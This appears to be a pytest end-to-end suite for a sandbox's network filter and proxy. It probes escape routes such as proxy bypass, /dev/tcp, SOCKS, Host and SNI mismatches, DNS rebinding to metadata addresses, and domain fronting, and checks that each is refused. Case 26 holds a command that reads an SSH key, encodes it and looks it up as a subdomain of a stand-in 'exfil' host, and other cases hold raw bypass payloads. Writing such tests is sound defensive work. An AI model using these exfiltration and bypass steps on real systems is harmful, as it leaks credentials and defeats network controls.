"""ESCAPES.md section B (network and proxy, cases 17-34) through real sandboxes, and the network filter's Done-when.

Every run is `stockade run --policy <allow = ["allowed.test", "*.wild.test"],
deny = ["blocked.wild.test"]> -- sh -c SCRIPT` with a HOME of this module's
own, so the proxy daemon (one per user home) is this module's alone; it is
started cold by the first run, reaches loopback origins through the test
resolver (STOCKADE_PROXY_TEST_RESOLVER) and is stopped at teardown. Tests
that kill their daemon, or need none, get another HOME.

Every attack is judged on the host: the origins, a host-only canary HTTP
server, a UDP canary and a raw-TCP canary log what reaches them, the test
resolver logs every name it is asked, and each run writes its own audit log.
Each attack has a control that must work, so a broken sandbox cannot pass
by failing everything.

Not covered here: case 32's "an addon hook made to raise" needs a fault
injected into the daemon (tests/proxy/filter/test_requests.py and the other addon tests do it); case
18's `ping` and `dig` are not installed here (their sockets are probed in
Python instead), and this curl has no HTTP/3 (QUIC is probed as UDP).
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import time

import pytest

from tests.e2e.netfixtures import (
    BIG,
    NetWorld,
    one,
    pid_alive,
    probe_lines,
    q,
    records,
    runtime_dir,
    tagged,
    timed_probe,
    wait_for,
)

pytestmark = [
    pytest.mark.sandbox,
    pytest.mark.network,
    pytest.mark.skipif(shutil.which("curl") is None, reason="needs curl"),
]

FAST = 2.0  # seconds: a refusal that takes longer is a hang, not a wall


@pytest.fixture(scope="module")
def world(net_world: NetWorld) -> NetWorld:
    return net_world


@pytest.fixture(scope="module")
def warm(world: NetWorld) -> NetWorld:
    """The module's daemon, started cold by a first networked run, and serving.

    A run whose command makes no connection does not wait for the daemon it starts
    (proxy/client/handover.py): the daemon is waited for here, so the tests start warm."""
    if world.daemon_pid() is None:
        first = world.run("true", tag="warmup", timeout=60)
        assert first.returncode == 0, first.stderr
    assert wait_for(lambda: world.daemon_pid() is not None, 30), "the daemon the warm-up run started never served"
    return world


def timings(result: subprocess.CompletedProcess[str]) -> dict[str, tuple[int, float]]:
    """The `T NAME CODE MS` lines of the prelude's `t` helper: name -> (exit code, seconds)."""
    found = {}
    for line in result.stdout.splitlines():
        if line.startswith("T "):
            _, name, code, ms = line.split()
            found[name] = (int(code), int(ms) / 1000)
    return found


def assert_failed_fast(found: dict[str, tuple[int, float]], names: list[str]) -> None:
    for name in names:
        assert name in found, (name, found)
        code, seconds = found[name]
        assert code != 0, f"{name} succeeded: {found}"
        assert seconds < FAST, f"{name} took {seconds:.2f}s: {found}"


def daemon_fds(pid: int) -> list[str]:
    links = []
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            links.append(os.readlink(f"/proc/{pid}/fd/{fd}"))
        except OSError:
            continue
    return links


# --- the first run ----------------------------------------------------------------------------------


def test_first_run_starts_a_private_daemon_and_returns(world: NetWorld) -> None:
    box = world.fresh_box()
    started = time.monotonic()
    first = world.run('curl -sS -x "$PX" "http://allowed.test:$HP/cold"; echo "rc=$?"', tag="cold", box=box, timeout=60)
    seconds = time.monotonic() - started
    assert first.returncode == 0, first.stderr
    assert "hello from allowed-http /cold" in first.stdout and one(first, "rc") == "0", first
    assert seconds < 15, f"a run that started the daemon took {seconds:.1f}s"
    pid = world.daemon_pid(box)
    assert pid is not None and pid_alive(pid)
    assert os.stat(runtime_dir(box)).st_mode & 0o777 == 0o700
    assert world.ping(box)["ok"]
    # The daemon holds nothing of the run that started it (a pipe of bwrap's kept that run waiting forever).
    assert not [link for link in daemon_fds(pid) if link.startswith(("pipe:", "/memfd:"))], daemon_fds(pid)


# --- 17 ---------------------------------------------------------------------------------------------

DIRECT_17 = r"""
socket.setdefaulttimeout(3)
attempt("tcp_doc_v4", lambda: socket.create_connection(("198.51.100.1", 443), 3))
attempt("tcp_doc_v6", lambda: socket.create_connection(("2001:db8::1", 443), 3))
attempt("tcp_host_origin", lambda: socket.create_connection(("127.0.0.1", HP), 3))
attempt("resolve_allowed", lambda: socket.getaddrinfo("allowed.test", 443))
"""


def test_case_17_direct_sockets_reach_only_what_the_policy_allows(warm: NetWorld) -> None:
    """A client that ignores the proxy goes through the filter all the same (bwrap/parts/interception.py): an
    allowed host answers, a refused address or the host's own loopback get nothing, and fast."""
    w = warm
    http_mark, https_mark, canary_mark = w.origins["http"].mark(), w.origins["https"].mark(), w.canary.mark()
    code = f"HP = {w.origins['http'].port}\n" + DIRECT_17
    result = w.run(
        f"""
t noproxy_ip curl --noproxy '*' -sS -m3 http://198.51.100.1/
t noproxy_name curl --noproxy '*' -sS -m3 --cacert "$CA" "https://allowed.test:$SP/"
t noproxy_host_loopback curl --noproxy '*' -sS -m3 "http://127.0.0.1:$HP/"
t dev_tcp bash -c 'echo > /dev/tcp/198.51.100.1/80'
t dev_tcp_host_loopback bash -c "echo > /dev/tcp/127.0.0.1/$HP"
t no_proxy_env env -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u http_proxy -u https_proxy -u all_proxy curl -sS -m3 --cacert "$CA" "https://allowed.test:$SP/"
"$PY" -c {q(timed_probe(code))}
curl -sS -x "$PX" --cacert "$CA" "https://allowed.test:$SP/control17"; echo "control=$?"
curl -sS --cacert "$CA" "https://allowed.test:$SP/env17"; echo "env=$?"
""",
        tag="c17",
    )
    found = timings(result)
    assert_failed_fast(found, ["noproxy_ip", "noproxy_host_loopback", "dev_tcp_host_loopback"])
    assert found["noproxy_name"][0] == 0 and found["no_proxy_env"][0] == 0, found  # through the filter, by name
    probes = probe_lines(result)
    # IPv6 as IPv4: the namespace takes every connection, and the filter judges (and here refuses) it
    assert probes["tcp_doc_v6"][0].startswith("ok"), probes
    assert probes["tcp_host_origin"][0] == "errno ECONNREFUSED", probes  # 127.0.0.1 is the sandbox's own
    assert probes["resolve_allowed"][0].startswith("ok"), probes  # the sandbox's resolver (proxy/daemon/inside_dns.py)
    assert all(seconds < FAST for _outcome, seconds in probes.values()), probes
    # Controls: the proxy, named explicitly or through the environment, verifies the origin's own certificate.
    assert one(result, "control") == "0" and one(result, "env") == "0", result
    assert "hello from allowed-https /control17" in result.stdout and "hello from allowed-https /env17" in result.stdout
    # Host side: nothing reached the plain origin or the canary; the TLS origin saw the allowed requests only.
    assert w.origins["http"].since(http_mark) == ([], 0)
    seen, _ = w.origins["https"].since(https_mark)
    assert sorted(s.path for s in seen) == ["/", "/", "/control17", "/env17"]
    assert w.canary.since(canary_mark) == ([], 0)
    refused = [r for r in records(w.audit_path("c17")) if r["decision"] == "deny"]
    assert {r["host"] for r in refused} >= {"198.51.100.1", "2001:db8::1"}, refused  # the address a direct client asked for, recorded


# --- 18 ---------------------------------------------------------------------------------------------

DATAGRAMS_18 = r"""
import struct
def udp(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(b"stockade-udp-probe", address)
    return "sent"
def nameserver():
    for line in open("/etc/resolv.conf"):
        if line.split()[:1] == ["nameserver"]:
            return line.split()[1]
    return "192.0.2.53"
echo = struct.pack("!BBHHH", 8, 0, 0xf7ff, 0, 0)  # ICMP echo request, checksum for an empty body
def ping_socket():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.sendto(echo, ("192.0.2.1", 0))
    return "sent"
attempt("udp_doc_v4", lambda: udp(("192.0.2.1", 443)))
attempt("udp_doc_v6", lambda: udp(("2001:db8::1", 443), socket.AF_INET6))
attempt("udp_dns", lambda: udp((nameserver(), 53)))
attempt("udp_dns_doc", lambda: udp(("192.0.2.1", 53)))
attempt("raw_icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("raw_icmp6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
attempt("ping_socket", ping_socket)
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)))
attempt("udp_host_canary", lambda: udp(("127.0.0.1", UDP_PORT)))
attempt("udp_quic_allowed_origin", lambda: udp(("127.0.0.1", SP)))
"""


def test_case_18_udp_icmp_raw_and_quic_fail(warm: NetWorld) -> None:
    w = warm
    https_mark = w.origins["https"].mark()
    code = f"UDP_PORT = {w.udp.port}\nSP = {w.origins['https'].port}\n" + DATAGRAMS_18
    result = w.run(
        f"""
"$PY" -c {q(timed_probe(code))}
t getent getent hosts allowed.test
t http3 curl --http3-only -sS -m3 --cacert "$CA" "https://allowed.test:$SP/"
if command -v ping >/dev/null; then t ping ping -c1 -W1 192.0.2.1; fi
if command -v dig >/dev/null; then t dig dig +time=1 +tries=1 @192.0.2.1 x.test; fi
curl -sS -x "$PX" --cacert "$CA" "https://allowed.test:$SP/control18"; echo "control=$?"
""",
        tag="c18",
    )
    found = probe_lines(result)
    # Every address is the namespace's own (bwrap/parts/interception.py): a datagram to port 53 reaches the
    # sandbox's resolver; any other is refused at once (EPERM) and recorded (proxy/daemon/packet_log.py).
    for name in ("udp_dns", "udp_dns_doc"):
        assert found[name][0] == "ok sent", (name, found)
    for name in ("udp_doc_v4", "udp_doc_v6", "ping_socket"):
        assert found[name][0] == "errno EPERM", (name, found)
    for name in ("raw_icmp", "raw_icmp6", "packet"):
        assert found[name][0] == "errno EPERM", (name, found)  # no CAP_NET_RAW in the sandbox
    refused = {(r["scheme"], r["host"], r["port"]) for r in records(w.audit_path("c18")) if r["decision"] == "deny"}
    assert {("udp", "192.0.2.1", 443), ("udp", "2001:db8::1", 443), ("icmp", "192.0.2.1", 0)} <= refused, refused
    # A datagram to 127.0.0.1 stays on the sandbox's own loopback: the host's listeners hear nothing.
    assert all(seconds < FAST for _outcome, seconds in found.values()), found
    assert_failed_fast(timings(result), [n for n in ("http3", "ping") if n in timings(result)])
    assert timings(result)["getent"][0] == 0, result  # the sandbox's resolver answers an allowed name
    time.sleep(0.3)
    assert w.udp.received == []
    assert one(result, "control") == "0", result
    seen, _ = w.origins["https"].since(https_mark)
    assert [s.path for s in seen] == ["/control18"]


# --- 19 ---------------------------------------------------------------------------------------------


def _endpoint(host: str, port: int) -> str:
    return f"[{host}]:{port}" if ":" in host else f"{host}:{port}"


def test_case_19_ip_literals_are_refused_before_any_dial(warm: NetWorld) -> None:
    w = warm
    marks = {k: o.mark() for k, o in w.origins.items()}
    asked = len(w.queried())
    result = w.run(
        """
for u in http://203.0.113.7/ 'http://[2001:db8::1]/' "http://127.0.0.1:$HP/" "http://2130706433:$HP/" "http://[::ffff:127.0.0.1]:$HP/"; do
    curl -sS -g -o /dev/null -w "plain=%{http_code} $u\\n" -x "$PX" --noproxy '' "$u"
done
for u in https://203.0.113.7/ "https://127.0.0.1:$SP/" 'https://[2001:db8::1]/'; do
    curl -sS -g -o /dev/null -w "tls=%{http_connect} $u\\n" -x "$PX" --noproxy '' --cacert "$CA" "$u"
done
curl -sS -x "$PX" "http://allowed.test:$HP/control19"; echo "control=$?"
""",
        tag="c19",
    )
    plain, tls = tagged(result, "plain"), tagged(result, "tls")
    assert len(plain) == 5 and all(line.startswith("403 ") for line in plain), result
    assert len(tls) == 3 and all(line.startswith("403 ") for line in tls), result
    assert "hello from allowed-http /control19" in result.stdout
    for key, origin in w.origins.items():
        seen, _ = origin.since(marks[key])
        assert [s.path for s in seen] == (["/control19"] if key == "http" else []), key
    found = w.records("c19", 9)
    denied = [r for r in found if r["decision"] == "deny"]
    assert len(denied) == 8, found
    assert all(r["rule"] == "IP literal not listed" for r in denied), denied
    assert {r["host"] for r in denied} == {"203.0.113.7", "2001:db8::1", "127.0.0.1"}
    # a loopback address: the hint names the port, the address alone would open every service on it
    assert all(r["hint"] == f'allow = ["{_endpoint(r["host"], r["port"]) if r["host"] == "127.0.0.1" else r["host"]}"]' for r in denied), denied
    assert w.queried()[asked:] == ["allowed.test"]  # literals are never looked up


# --- 21 ---------------------------------------------------------------------------------------------

SPELLINGS_21 = (
    "blocked.wild.test.",
    "BLOCKED.wild.test",
    "Blocked.Wild.Test.",
    "wild.test",
    "allowed.test.evil.test",
    "evilallowed.test",
    "\u0430llowed.test",
)


def test_case_21_name_spellings_against_allow_and_deny(warm: NetWorld) -> None:
    w = warm
    marks = {k: o.mark() for k, o in w.origins.items()}
    asked = len(w.queried())
    names = " ".join(q(h) for h in SPELLINGS_21)
    result = w.run(
        f"""
for h in {names}; do curl -s -o /dev/null -w "code=%{{http_code}} $h\\n" -x "$PX" "http://$h:$WP/"; done
curl -s -x "$PX" "http://allowed.test@denied.test:$DP/userinfo"; echo
curl -s -o /dev/null -w "control=%{{http_code}}\\n" -x "$PX" "http://Allowed.TEST.:$HP/control21"
curl -s -o /dev/null -w "wild=%{{http_code}}\\n" -x "$PX" "http://a.wild.test:$WP/wild21"
""",
        tag="c21",
    )
    codes = tagged(result, "code")
    assert len(codes) == len(SPELLINGS_21) and all(c.startswith("403 ") for c in codes), result
    assert f"blocked denied.test:{w.origins['denied'].port}" in result.stdout  # the userinfo URL is judged as denied.test
    assert one(result, "control") == "200" and one(result, "wild") == "200", result
    for key, origin in w.origins.items():
        seen, _ = origin.since(marks[key])
        assert [s.path for s in seen] == {"http": ["/control21"], "wild": ["/wild21"]}.get(key, []), key
    found = w.records("c21", len(SPELLINGS_21) + 3)
    by_host: dict[str, list[dict]] = {}
    for record in found:
        by_host.setdefault(record["host"], []).append(record)
    assert [r["rule"] for r in by_host["blocked.wild.test"]] == ['deny "blocked.wild.test"'] * 3  # deny beats the wildcard
    for host in ("wild.test", "allowed.test.evil.test", "evilallowed.test", "xn--llowed-2nf.test", "denied.test"):
        assert [r["decision"] for r in by_host[host]] == ["deny"], (host, by_host.get(host))
    assert [(r["decision"], r["path"]) for r in by_host["allowed.test"]] == [("allow", "/control21")]  # logged canonical
    # No denied spelling was ever looked up (the resolver is handed the spelling the client sent).
    assert [n.lower().rstrip(".") for n in w.queried()[asked:]] == ["allowed.test", "a.wild.test"]


def test_case_21_idn_rules_are_compared_as_a_labels(warm: NetWorld) -> None:
    w = warm
    policy = w.policy("c21idn", allow=["bücher.test"], deny=[])
    result = w.run(
        """
curl -s -o /dev/null -w "unicode=%{http_code}\\n" -x "$PX" "http://bücher.test:$HP/u"
curl -s -o /dev/null -w "alabel=%{http_code}\\n" -x "$PX" "http://xn--bcher-kva.test:$HP/a"
curl -s -o /dev/null -w "other=%{http_code}\\n" -x "$PX" "http://bucher.test:$HP/o"
""",
        tag="c21idn",
        policy=policy,
    )
    assert (one(result, "unicode"), one(result, "alabel"), one(result, "other")) == ("200", "200", "403"), result
    assert [r["host"] for r in w.records("c21idn", 3)] == ["xn--bcher-kva.test", "xn--bcher-kva.test", "bucher.test"]


# --- 22 ---------------------------------------------------------------------------------------------

RAW_CLIENT = r"""
import socket, sys
def raw(request, timeout=5):
    s = socket.create_connection(("127.0.0.1", 3128), timeout)
    s.sendall(request)
    data = b""
    try:
        while chunk := s.recv(65536):
            data += chunk
    except OSError as exc:
        data += b" [" + type(exc).__name__.encode() + b"]"
    s.close()
    return data
"""

HOST_VS_TARGET_22 = (
    RAW_CLIENT
    + r"""
hp, dp = sys.argv[1], sys.argv[2]
cases = {
    "mismatch": f"GET http://allowed.test:{hp}/mismatch22 HTTP/1.1\r\nHost: denied.test:{dp}\r\nConnection: close\r\n\r\n",
    "origin_form": f"GET /origin22 HTTP/1.1\r\nHost: denied.test:{dp}\r\nConnection: close\r\n\r\n",
    "two_hosts": f"GET http://allowed.test:{hp}/two22 HTTP/1.1\r\nHost: allowed.test:{hp}\r\nHost: denied.test:{dp}\r\nConnection: close\r\n\r\n",
    "control": f"GET http://allowed.test:{hp}/control22 HTTP/1.1\r\nHost: allowed.test:{hp}\r\nConnection: close\r\n\r\n",
}
for name, request in cases.items():
    print(name + "=" + raw(request.encode()).split(b"\r\n")[0].decode(errors="replace"))
"""
)


def test_case_22_plain_http_request_target_versus_host(warm: NetWorld) -> None:
    w = warm
    marks = {k: o.mark() for k, o in w.origins.items()}
    result = w.run(
        f"""
"$PY" -c {q(HOST_VS_TARGET_22)} "$HP" "$DP"
curl -s -o /dev/null -w "curl=%{{http_code}}\\n" -x "$PX" "http://denied.test:$DP/curl22"
curl -s -o /dev/null -w "tunnelled=%{{http_code}}\\n" -x "$PX" --proxytunnel -H "Host: denied.test" "http://allowed.test:$HP/tunnel22"
""",
        tag="c22",
    )
    for name in ("mismatch", "origin_form"):
        assert one(result, name).startswith("HTTP/1.1 403"), (name, result.stdout)
    assert one(result, "two_hosts").startswith(("HTTP/1.1 400", "HTTP/1.1 403")), result.stdout
    assert one(result, "control").startswith("HTTP/1.1 200"), result.stdout
    assert one(result, "curl") == "403" and one(result, "tunnelled") == "403", result.stdout
    assert w.origins["denied"].since(marks["denied"]) == ([], 0)
    for key, origin in w.origins.items():
        seen, _ = origin.since(marks[key])
        assert [s.path for s in seen] == (["/control22"] if key == "http" else []), key
    found = w.records("c22", 6)
    mismatch = next(r for r in found if r["path"] == "/mismatch22")
    assert mismatch["decision"] == "deny" and "does not match the request target" in mismatch["rule"]
    assert sum(r["decision"] == "allow" for r in found) == 1 + 1  # the control, and the CONNECT that carried the tunnelled request


# --- 23 ---------------------------------------------------------------------------------------------


def test_case_23_sni_must_match_the_connect_name(warm: NetWorld) -> None:
    w = warm
    https = w.origins["https"]
    mark = https.mark()
    result = w.run(
        """
s_client() { openssl s_client -proxy 127.0.0.1:3128 -connect "allowed.test:$SP" -CAfile "$CA" -verify_return_error "$@" </dev/null; }
s_client -servername denied.test >/dev/null 2>&1; echo "fronted=$?"
s_client -noservername >/dev/null 2>&1; echo "bare=$?"
s_client -servername allowed.test > "$P/good23.txt" 2>&1; echo "good=$?"
""",
        tag="c23",
    )
    assert one(result, "fronted") != "0" and one(result, "bare") != "0", result
    assert one(result, "good") == "0", (w.box.project / "good23.txt").read_text()
    assert "Verify return code: 0 (ok)" in (w.box.project / "good23.txt").read_text()  # the origin's own certificate, untouched
    assert https.since(mark)[1] == 1  # the refused handshakes never reached the origin
    fronted, bare, good = w.records("c23", 3)
    assert fronted["decision"] == "deny" and fronted["rule"] == "TLS SNI denied.test does not match the CONNECT host allowed.test"
    assert bare["decision"] == "deny" and bare["rule"] == "TLS without SNI to allowed.test"
    assert (good["decision"], good["sni"], good["scheme"]) == ("allow", "allowed.test", "tls")


def test_case_23_summary_of_an_unfixable_denial_does_not_suggest_an_empty_rule(warm: NetWorld) -> None:
    result = warm.run(
        'openssl s_client -proxy 127.0.0.1:3128 -connect "allowed.test:$SP" -servername denied.test </dev/null >/dev/null 2>&1',
        tag="c23summary",
    )
    summary = [line for line in result.stderr.splitlines() if "network: denied" in line]
    assert summary, result.stderr
    assert not any("add  under" in line for line in summary), summary
    assert any("no policy change allows this" in line for line in summary), summary


# --- 24 (residual) ------------------------------------------------------------------------------------


def test_case_24_domain_fronting_inside_a_tunnel_is_a_residual_that_lands_on_the_allowed_origin(warm: NetWorld) -> None:
    """Without TLS interception the inner Host is invisible: pinned down, not fixed (ESCAPES 24)."""
    w = warm
    marks = {k: o.mark() for k, o in w.origins.items()}
    result = w.run(
        'curl -sS -x "$PX" --cacert "$CA" -H "Host: denied.test" "https://allowed.test:$SP/front24"; echo "rc=$?"',
        tag="c24",
    )
    assert one(result, "rc") == "0", result
    # The request reached the allowed origin (whose certificate also names denied.test), and only that one.
    assert "hello from allowed-https /front24" in result.stdout
    seen, _ = w.origins["https"].since(marks["https"])
    assert [(s.path, s.host) for s in seen] == [("/front24", "denied.test")]
    for key in ("denied", "denied_tls"):
        assert w.origins[key].since(marks[key]) == ([], 0)
    (record,) = w.records("c24", 1)
    assert (record["decision"], record["host"], record["sni"], record["port"]) == ("allow", "allowed.test", "allowed.test", w.origins["https"].port)
    assert record["address"] == "127.0.0.1" and record["path"] is None  # the proxy dialed allowed.test's address; the path is not visible


# --- 25 ---------------------------------------------------------------------------------------------

TUNNEL_25 = (
    RAW_CLIENT
    + r"""
def tunnel(port):
    s = socket.create_connection(("127.0.0.1", 3128), 5)
    s.sendall(f"CONNECT allowed.test:{port} HTTP/1.1\r\nHost: allowed.test:{port}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(1024)
        if not chunk:
            break
        head += chunk
    status = head.split(b"\r\n")[0].decode(errors="replace")
    if not status.startswith("HTTP/1.1 200"):
        return status
    s.sendall(b"RAW-canary\r\n")  # neither TLS nor HTTP nor SSH (tests/e2e/test_ssh.py has SSH, which a host:port rule lets by)
    try:
        rest = s.recv(1024)
    except OSError as exc:
        rest = type(exc).__name__.encode()
    s.close()
    return f"{status} then {rest!r}"
print("raw=" + tunnel(int(sys.argv[1])))
print("raw_tls_port=" + tunnel(int(sys.argv[2])))
"""
)


def test_case_25_other_protocols_and_ports_through_an_allowed_name(warm: NetWorld) -> None:
    w = warm
    sp, tcp = w.origins["https"].port, w.tcp.port
    policy = w.policy("c25", allow=[f"allowed.test:{sp}", f"allowed.test:{tcp}"], deny=[])
    https_mark = w.origins["https"].mark()
    result = w.run(
        f"""
curl -sS -m3 -o /dev/null -w "p22=%{{http_connect}}\\n" -x "$PX" -p telnet://allowed.test:22 </dev/null
curl -sS -m3 -o /dev/null -w "p25=%{{http_connect}}\\n" -x "$PX" -p telnet://allowed.test:25 </dev/null
"$PY" -c {q(TUNNEL_25)} "$TCP_PORT" "$SP"
curl -sS -x "$PX" --cacert "$CA" "https://allowed.test:$SP/control25"; echo "control=$?"
""",
        tag="c25",
        policy=policy,
    )
    assert one(result, "p22") == "403" and one(result, "p25") == "403", result
    # Only TLS, HTTP or (to a listed host:port) SSH may tunnel: other bytes are cut, on the listed raw port and on the TLS port alike.
    for name in ("raw", "raw_tls_port"):
        outcome = one(result, name)
        assert outcome.startswith("HTTP/1.1 200") and outcome.endswith("then b''"), (name, outcome)
    assert one(result, "control") == "0", result
    time.sleep(0.2)
    assert (w.tcp.connections, w.tcp.received) == (0, b"")  # never dialed
    seen, connections = w.origins["https"].since(https_mark)
    assert [s.path for s in seen] == ["/control25"] and connections == 1
    found = w.records("c25", 5)
    by_port = {}
    for r in found:
        by_port.setdefault(r["port"], []).append(r)
    for port in (22, 25):
        (r,) = by_port[port]
        assert (r["decision"], r["rule"], r["hint"]) == ("deny", f"no allow rule matches port {port}", f'allow = ["allowed.test:{port}"]')
    (raw,) = by_port[tcp]
    assert (raw["decision"], raw["scheme"]) == ("deny", "tcp") and "raw TCP" in raw["rule"]
    assert sorted((r["decision"], r["scheme"]) for r in by_port[sp]) == [("allow", "tls"), ("deny", "tcp")]


# --- 26 ---------------------------------------------------------------------------------------------


def test_case_26_dns_exfiltration_never_reaches_a_resolver(warm: NetWorld) -> None:
    w = warm
    asked = len(w.queried())
    result = w.run(
        """
secret=$(head -c 24 "$H/.ssh/id_test" 2>/dev/null | base32 | tr -d =); echo "secret=${secret:-none}"
t getent getent hosts "${secret:-x}.exfil.denied.test"
t python_lookup "$PY" -c 'import socket; socket.getaddrinfo("y.exfil.denied.test", 80)'
curl -s -o /dev/null -w "http=%{http_code}\\n" -x "$PX" "http://d$(date +%s).exfil.denied.test/"
curl -s -o /dev/null -w "tls=%{http_connect}\\n" -x "$PX" "https://x.exfil.denied.test/"
curl -s -o /dev/null -w "blocked=%{http_code}\\n" -x "$PX" "http://blocked.wild.test/"
curl -s -o /dev/null -w "control=%{http_code}\\n" -x "$PX" "http://allowed.test:$HP/control26"
""",
        tag="c26",
    )
    assert one(result, "secret") == "none"  # deny_read: nothing to smuggle in the first place
    assert_failed_fast(timings(result), ["getent", "python_lookup"])  # the sandbox's resolver: NXDOMAIN, asking no one
    assert (one(result, "http"), one(result, "tls"), one(result, "blocked"), one(result, "control")) == ("403", "403", "403", "200"), result
    # Denied names are judged before any lookup: the resolver was asked for the control's name only.
    assert w.queried()[asked:] == ["allowed.test"]
    found = w.records("c26", 6)
    assert [r["decision"] for r in found if r["scheme"] != "dns"] == ["deny"] * 3 + ["allow"]
    looked_up = {r["host"] for r in found if r["scheme"] == "dns"}
    assert all(r["decision"] == "deny" for r in found if r["scheme"] == "dns") and "y.exfil.denied.test" in looked_up, found


# --- 27 ---------------------------------------------------------------------------------------------


def test_case_27_allowed_names_resolving_to_inside_addresses(warm: NetWorld) -> None:
    w = warm
    canary_mark = w.canary.mark()
    asked = len(w.queried())
    result = w.run(
        """
curl -s -o /dev/null -w "rebind=%{http_code}\\n" -x "$PX" "http://rebind.wild.test:$CANARY_PORT/"
curl -s -o /dev/null -w "rebind_tls=%{http_connect}\\n" -x "$PX" "https://rebind.wild.test:$CANARY_PORT/"
curl -s -o /dev/null -w "meta=%{http_code}\\n" -x "$PX" "http://meta.wild.test/latest/meta-data/"
curl -s -o /dev/null -w "priv=%{http_code}\\n" -x "$PX" "http://priv.wild.test/"
curl -s -o /dev/null -w "control=%{http_code}\\n" -x "$PX" "http://a.wild.test:$WP/control27"
""",
        tag="c27",
    )
    assert [one(result, k) for k in ("rebind", "rebind_tls", "meta", "priv", "control")] == ["403"] * 4 + ["200"], result
    assert w.canary.since(canary_mark) == ([], 0)
    # Refused after resolution: the names were looked up (they are allowed), their addresses were not dialed.
    assert {"rebind.wild.test", "meta.wild.test", "priv.wild.test"} <= set(w.queried()[asked:])
    rules = [r["rule"] for r in w.records("c27", 5) if r["decision"] == "deny"]
    assert rules == [
        "rebind.wild.test resolves to 127.0.0.1 (loopback)",
        "rebind.wild.test resolves to 127.0.0.1 (loopback)",
        "meta.wild.test resolves to 169.254.169.254 (cloud metadata)",
        "priv.wild.test resolves to 10.0.0.5 (private)",
    ]


# --- 28 ---------------------------------------------------------------------------------------------


def test_case_28_host_loopback_services_and_the_proxy_itself(warm: NetWorld) -> None:
    w = warm
    canary_mark = w.canary.mark()
    daemon_port = w.daemon_port()
    assert daemon_port
    result = w.run(
        """
t direct_canary curl -sS -m3 "http://127.0.0.1:$CANARY_PORT/"
t direct_daemon curl -sS -m3 --noproxy '*' "http://127.0.0.1:$DAEMON_PORT/"
for u in "http://127.0.0.1:$CANARY_PORT/" "http://localhost:$CANARY_PORT/" "http://localhost:$DAEMON_PORT/" "http://127.0.0.1:$DAEMON_PORT/" "http://127.0.0.1:3128/"; do
    curl -s -o /dev/null -w "proxied=%{http_code} $u\\n" -x "$PX" --noproxy '' "$u"
done
curl -s -o /dev/null -w "loop=%{http_connect}\\n" -x "$PX" --noproxy '' "https://localhost:$DAEMON_PORT/"
curl -s -o /dev/null -w "control=%{http_code}\\n" -x "$PX" "http://allowed.test:$HP/control28"
""",
        tag="c28",
    )
    assert_failed_fast(timings(result), ["direct_canary", "direct_daemon"])
    proxied = tagged(result, "proxied")
    assert len(proxied) == 5 and all(p.startswith("403 ") for p in proxied), result
    assert one(result, "loop") == "403" and one(result, "control") == "200", result
    assert w.canary.since(canary_mark) == ([], 0)
    # No proxy loop: the daemon answers and holds no connection of this finished run.
    assert wait_for(lambda: w.ping()["clients"] == 0, 10), w.ping()
    assert sum(r["decision"] == "deny" for r in w.records("c28", 7)) == 6


# --- 30 ---------------------------------------------------------------------------------------------

SOCKS_30 = r"""
import ipaddress
def exchange(payload, port=3128):
    with socket.create_connection(("127.0.0.1", port), 3) as s:
        s.settimeout(3)
        s.sendall(payload)
        data = b""
        while chunk := s.recv(4096):
            data += chunk
        return data[:12]
socks5_connect = lambda atyp, address, port: b"\x05\x01\x00" + bytes([atyp]) + address + port.to_bytes(2, "big")
denied = b"denied.test"
cases = {
    "greeting_noauth": b"\x05\x01\x00",
    "greeting_userpass": b"\x05\x02\x00\x02",
    "connect_ipv4": b"\x05\x01\x00" + socks5_connect(1, ipaddress.ip_address("127.0.0.1").packed, HP),
    "connect_ipv6": b"\x05\x01\x00" + socks5_connect(4, ipaddress.ip_address("::1").packed, HP),
    "connect_name": b"\x05\x01\x00" + socks5_connect(3, bytes([len(denied)]) + denied, HP),
    "bind": b"\x05\x01\x00\x05\x02\x00\x01\x7f\x00\x00\x01\x00\x50",
    "udp_associate": b"\x05\x01\x00\x05\x03\x00\x01\x00\x00\x00\x00\x00\x00",
    "socks4": b"\x04\x01" + HP.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + b"x\x00",
    "socks4a": b"\x04\x01" + HP.to_bytes(2, "big") + bytes([0, 0, 0, 1]) + b"x\x00allowed.test\x00",
}
for name, payload in cases.items():
    attempt(name, lambda payload=payload: exchange(payload))
"""


def _socks_refused(outcome: str) -> bool:
    """No SOCKS success reply: an HTTP 400, a closed connection or a reset, never `05 00` or `00 5a`, never a wait."""
    if not outcome.startswith("ok "):
        return outcome.startswith("errno ") and "Timeout" not in outcome and "timeout" not in outcome
    reply = outcome[3:]
    return not reply.startswith(("b'\\x05\\x00", "b'\\x05\\x02", "b'\\x00Z")) and reply.startswith(("b'HTTP/1.1 4", "b''"))


def test_case_30_socks_is_not_offered(warm: NetWorld) -> None:
    w = warm
    marks = {k: o.mark() for k, o in w.origins.items()}
    code = f"HP = {w.origins['http'].port}\n" + SOCKS_30
    result = w.run(
        f"""
"$PY" -c {q(timed_probe(code))}
t curl_socks5h curl -sS -m5 --socks5-hostname 127.0.0.1:3128 "http://allowed.test:$HP/socks30"
t curl_socks4 curl -sS -m5 --socks4 127.0.0.1:3128 "http://127.0.0.1:$HP/socks30"
t curl_socks5_url curl -sS -m5 -x socks5h://127.0.0.1:3128 "http://allowed.test:$HP/socks30"
curl -sS -x "$PX" "http://allowed.test:$HP/control30"; echo "control=$?"
""",
        tag="c30",
    )
    found = probe_lines(result)
    assert len(found) == 9, found
    for name, (outcome, seconds) in found.items():
        assert _socks_refused(outcome), (name, outcome)
        assert seconds < FAST, (name, outcome, seconds)  # refused at once, not left waiting for a CRLF
    assert_failed_fast(timings(result), ["curl_socks5h", "curl_socks4", "curl_socks5_url"])
    assert one(result, "control") == "0" and "hello from allowed-http /control30" in result.stdout
